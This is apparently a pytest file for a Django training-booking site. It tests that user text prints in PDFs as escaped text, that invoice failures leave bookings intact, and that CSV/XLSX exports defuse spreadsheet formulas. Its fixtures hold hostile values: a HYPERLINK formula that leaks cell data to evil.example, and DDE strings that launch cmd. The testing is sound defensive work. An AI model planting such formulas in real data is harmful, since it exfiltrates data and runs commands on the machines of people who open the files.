"""Issue 12, items 7 and 8: what people type reaches PDFs as text, never as
reportlab markup, in fonts that print their names; drawing an invoice never
undoes the booking or register that raised it; and no export the site offers
writes a cell a spreadsheet would run as a formula."""

import csv
import datetime as dt
import html
import io
import re
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib.auth.models import Group
from django.core import mail
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.models import Sector
from accounts.roles import Role
from bookings import pdf as bookings_pdf
from bookings.models import Booking
from bookings.services import booking_create, register_mark, register_submit
from certificates.models import Certificate
from certificates.pdf import certificate_pdf
from core.exports import FORMULA_STARTS
from core.models import OutboundEmail
from core.periods import Period
from courses.models import CourseFormat
from payments.models import BandRate, ChargingBand, Invoice
from payments.pdf import invoice_pdf
from payments.services import invoice_cancel
from reports import pdf as reports_pdf
from reports import selectors as reports_selectors
from tests.dates import ago
from tests.elearning.factories import CompletionFactory, ModuleFactory
from tests.factories import AgencyFactory, BookingFactory, CourseFactory, SessionFactory, UserFactory
from tests.payments.finance_records import invoice_of, invoiced_place, pdf_text, session_on

pytestmark = pytest.mark.django_db

LINK = 'PO-1 <a href="https://evil.example/pay">Pay</a>'
UNCLOSED = "PO <7 & co"
DANA = "Dana <Delegate"
NAMES = "Zoë Ωµ Пётр 李小龍"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Acme Ltd")'


def _text(data: bytes) -> str:
    """The PDF's text with all white space taken out, as lines wrap where the
    page ends; compare it with _squash(expected)."""
    return _squash(pdf_text(data))


def _squash(value: str) -> str:
    return re.sub(r"\s+", "", value)


def _links(data: bytes) -> bool:
    return any(
        annotation.get_object().get("/Subtype") == "/Link"
        for page in PdfReader(io.BytesIO(data)).pages
        for annotation in page.get("/Annots") or []
    )


@pytest.fixture
def band(db):
    band = ChargingBand.objects.create(name="Private and voluntary", slug="private-voluntary")
    BandRate.objects.create(band=band, format=CourseFormat.FULL_DAY, price_pence=5000, fee_pence=2500)
    return band


@pytest.fixture
def payer(band):
    """A delegate whose organisation pays by band, named as people are."""
    agency = AgencyFactory(name="Ωmega Childcare 李", charging_band=band)
    return UserFactory(role=Role.DELEGATE, first_name="Zoë", last_name="Ωµ 李小龍", agency=agency)


# --- Item 7: user text reaches reportlab as text ------------------------------------------


def test_a_purchase_order_written_as_a_link_prints_as_text_and_links_nowhere():
    invoice = invoice_of(invoiced_place(agency=AgencyFactory(), purchase_order=LINK))

    data = invoice_pdf(invoice)

    assert not _links(data)
    assert b"/URI" not in data
    assert _squash(f"Purchase order: {LINK}") in _text(data)


def test_a_booking_whose_purchase_order_has_an_unclosed_bracket_is_booked_and_invoiced(
    payer, django_capture_on_commit_callbacks
):
    session = SessionFactory(course=CourseFactory(format=CourseFormat.FULL_DAY, charging="band"))

    with django_capture_on_commit_callbacks(execute=True):
        booking = booking_create(
            session=session, user=payer, payment_method="invoice", purchase_order=UNCLOSED,
            billing_contact_name="Pat <Payables", billing_contact_email="accounts@example.org",
        )

    assert Booking.objects.get(pk=booking.pk).status == Booking.Status.CONFIRMED
    ((content, mimetype),) = [
        (content, mimetype) for message in mail.outbox for _name, content, mimetype in message.attachments
        if mimetype == "application/pdf"
    ]
    text = _text(content)
    for expected in (f"Purchase order: {UNCLOSED}", "For the attention of Pat <Payables", "Zoë Ωµ 李小龍"):
        assert _squash(expected) in text


def _no_show_session(user):
    session = SessionFactory(start=ago(hours=2), capacity=3, minimum_numbers=0)
    booking = BookingFactory(session=session, user=user, fee_pence=2500, billing_contact_email="accounts@example.org")
    return session, booking


def test_the_register_is_submitted_when_a_no_show_is_named_dana_delegate(
    administrator, django_capture_on_commit_callbacks
):
    session, booking = _no_show_session(UserFactory(first_name="Dana", last_name="<Delegate"))
    register_mark(session=session, marks={booking.pk: Booking.Attendance.DID_NOT_ATTEND}, by=administrator)

    with django_capture_on_commit_callbacks(execute=True):
        register_submit(session=session, by=administrator)

    session.refresh_from_db()
    assert session.register_is_submitted
    invoice = Invoice.objects.get(lines__charge__booking=booking)
    assert _squash(DANA) in _text(invoice_pdf(invoice))
    assert [m for m in mail.outbox if m.attachments and invoice.reference in m.subject]


def test_a_credit_note_prints_hostile_and_non_latin_text():
    invoice = invoice_of(invoiced_place(agency=AgencyFactory(name=f"{NAMES} <Nursery"), purchase_order=LINK))

    credit = invoice_cancel(invoice=invoice)
    data = invoice_pdf(credit)

    text = _text(data)
    assert _squash(f"{NAMES} <Nursery") in text
    assert _squash(f"Credits invoice {invoice.reference}") in text
    assert not _links(data)


def test_the_sign_in_sheet_prints_hostile_and_non_latin_names():
    session = SessionFactory(course=CourseFactory(title=f"Working with {UNCLOSED}"))
    rows = [
        BookingFactory(session=session, user=UserFactory(first_name="Dana", last_name="<Delegate")),
        BookingFactory(
            session=session, user=UserFactory(first_name="Zoë", last_name="Ωµ Пётр 李小龍",
                                              agency=AgencyFactory(name=LINK)),
        ),
    ]

    data = bookings_pdf.sign_in_sheet(session, rows)

    text = _text(data)
    for expected in (f"Sign-in sheet: Working with {UNCLOSED}", DANA, NAMES, LINK):
        assert _squash(expected) in text
    assert not _links(data)


def test_a_certificate_prints_a_non_latin_name():
    user = UserFactory()
    certificate = Certificate.objects.create(
        code="ABCD-1234", source="booking:1", kind=Certificate.Kind.COURSE, user=user, holder_name=NAMES,
        title=f"Working with {UNCLOSED}", awarded_on=dt.date(2026, 3, 2), duration="6 hours",
        learning_outcomes=f"{LINK}\nKnow Dana <Delegate",
    )

    data = certificate_pdf(certificate, verify_url="https://example.org/verify/")

    text = _text(data)
    for expected in (NAMES, f"Working with {UNCLOSED}", LINK, DANA):
        assert _squash(expected) in text
    assert not _links(data)


def test_the_training_summary_prints_non_latin_agencies_and_courses():
    course = CourseFactory(title=f"Κοινή {UNCLOSED} 课程")
    session = session_on(timezone.localdate() - dt.timedelta(days=3), course=course)
    BookingFactory(session=session, user=UserFactory(agency=AgencyFactory(name=f"{NAMES} <Nursery")),
                   attendance=Booking.Attendance.ATTENDED)
    today = timezone.localdate()

    data = reports_pdf.training_summary_pdf(
        reports_selectors.annual_summary(Period(today - dt.timedelta(days=30), today), [course.pk])
    )

    text = _text(data)
    assert _squash(f"{NAMES} <Nursery") in text
    assert _squash(f"Κοινή {UNCLOSED} 课程") in text


def _our_modules():
    root = Path(__file__).resolve().parents[2]
    for config in apps.get_app_configs():
        if Path(config.path).is_relative_to(root):
            yield from ((path, path.relative_to(root).as_posix()) for path in Path(config.path).glob("**/*.py"))


def test_no_renderer_builds_a_paragraph_but_through_the_escaping_helper():
    """A new PDF is safe only if its text goes in through core.pdf.paragraph."""
    offenders = [name for path, name in _our_modules() if name != "core/pdf.py" and "Paragraph(" in path.read_text()]
    assert offenders == []


# --- Item 7: an invoice that cannot be drawn never undoes what raised it -----------------


def _broken_renderer(invoice):
    raise RuntimeError("the PDF could not be drawn")


def test_a_failing_invoice_renderer_never_undoes_the_booking(payer, monkeypatch, django_capture_on_commit_callbacks):
    monkeypatch.setattr("payments.emails.invoice_pdf", _broken_renderer)
    session = SessionFactory(course=CourseFactory(format=CourseFormat.FULL_DAY, charging="band"))

    with django_capture_on_commit_callbacks(execute=True):
        booking = booking_create(session=session, user=payer, payment_method="invoice", purchase_order="PO-9",
                                 billing_contact_email="accounts@example.org")

    assert Booking.objects.get(pk=booking.pk).status == Booking.Status.CONFIRMED
    assert Invoice.objects.filter(lines__charge__booking=booking).exists()
    # The e-mail is kept, unsent, with the reason, to be retried and then listed for staff.
    (email,) = OutboundEmail.objects.filter(attachment_source__startswith="invoice:")
    assert (email.sent_at, email.last_error) == (None, "the PDF could not be drawn")


def test_a_failing_invoice_renderer_never_undoes_the_register_submission(
    administrator, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr("payments.emails.invoice_pdf", _broken_renderer)
    session, booking = _no_show_session(UserFactory())
    register_mark(session=session, marks={booking.pk: Booking.Attendance.DID_NOT_ATTEND}, by=administrator)

    with django_capture_on_commit_callbacks(execute=True):
        register_submit(session=session, by=administrator)

    session.refresh_from_db()
    assert session.register_is_submitted
    assert Invoice.objects.filter(lines__charge__booking=booking).exists()


# --- Item 8: every export the site offers is formula-safe ---------------------------------

SKIP_NAMESPACES = {"admin", "djdt"}


def _plain_urls(resolver=None, prefix="", namespace=None):
    """Every URL of the URL conf that takes no arguments (each export is a page
    of the site asked for with _export=csv or xlsx), outside the admin."""
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace in SKIP_NAMESPACES:
                continue
            yield from _plain_urls(pattern, prefix + str(pattern.pattern), pattern.namespace or namespace)
        elif isinstance(pattern, URLPattern):
            route = prefix + str(pattern.pattern)
            if "<" not in route and "(" not in route and "\\" not in route:
                yield "/" + route.lstrip("^").rstrip("$")


def _export_links(page_html: str, path: str) -> set[str]:
    links = set()
    for href in re.findall(r'href="([^"]*_export=[^"]*)"', page_html):
        href = html.unescape(href)
        links.add(path + href if href.startswith("?") else href)
    return links


@pytest.fixture
def hostile_programme(band):
    """Training in the last month where every name a person can type starts
    like a formula: agency, sector, course, e-learning module."""
    sector = Sector.objects.create(name="+SUM(1+1)", slug="formula-sector")
    agency = AgencyFactory(name=FORMULA, sector=sector)
    course = CourseFactory(title="@SUM(1+1)*cmd|' /C calc'!A0")
    session = session_on(timezone.localdate() - dt.timedelta(days=3), course=course)
    invoiced_place(agency=agency, session=session, attendance=Booking.Attendance.ATTENDED)
    module = ModuleFactory(title="-2+3+cmd|' /C calc'!A0")
    CompletionFactory(module=module, user=UserFactory(agency=agency), completed_on=timezone.localdate())
    return agency


@pytest.fixture
def everyone_staff(hostile_programme):
    """One person in every staff role (and coordinator of the hostile agency),
    so every page that offers an export offers it to them."""
    person = UserFactory(agency=hostile_programme, role=Role.FINANCE)
    for role in (Role.PPT_REVIEWER, Role.TRAINING_ADMINISTRATOR, Role.AGENCY_COORDINATOR):
        person.groups.add(Group.objects.get(name=role))
    return person


def _cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
    return [cell.value for cell in cells]


def _formula(value) -> bool:
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)  # a negative amount is a number, not a formula
    except ValueError:
        return True
    return False


def test_every_export_the_site_offers_writes_names_as_text_not_formulas(client, everyone_staff):
    client.force_login(everyone_staff)
    today = timezone.localdate()
    period = {"start": f"{today - dt.timedelta(days=30):%Y-%m-%d}", "end": f"{today:%Y-%m-%d}"}
    exports = set()
    for path in sorted(set(_plain_urls())):
        response = client.get(path, period)
        if response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
            exports |= _export_links(response.content.decode(), path)

    assert {link for link in exports if "/finance/" in link and "_table=agency" in link}, exports
    looked_at = 0
    for link in sorted(exports):
        response = client.get(link)
        assert response.status_code == 200, link
        cells = _cells(response)
        assert not [cell for cell in cells if _formula(cell)], link
        looked_at += 1
    assert looked_at >= 10


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_income_by_agency_writes_a_formula_named_agency_as_text(client, everyone_staff, export_format):
    client.force_login(everyone_staff)
    today = timezone.localdate()

    response = client.get(
        reverse("payments:finance_summary"),
        {"start": f"{today - dt.timedelta(days=30):%Y-%m-%d}", "end": f"{today:%Y-%m-%d}",
         "_export": export_format, "_table": "agency"},
    )

    assert "'" + FORMULA in _cells(response)


def test_no_code_but_the_safe_exporter_builds_an_export():
    """A new export is safe only if it goes through core.exports.SafeTableExport."""
    offenders = [
        name for path, name in _our_modules()
        if name != "core/exports.py" and re.search(r"(?<!Safe)TableExport\(", path.read_text())
    ]
    assert offenders == []
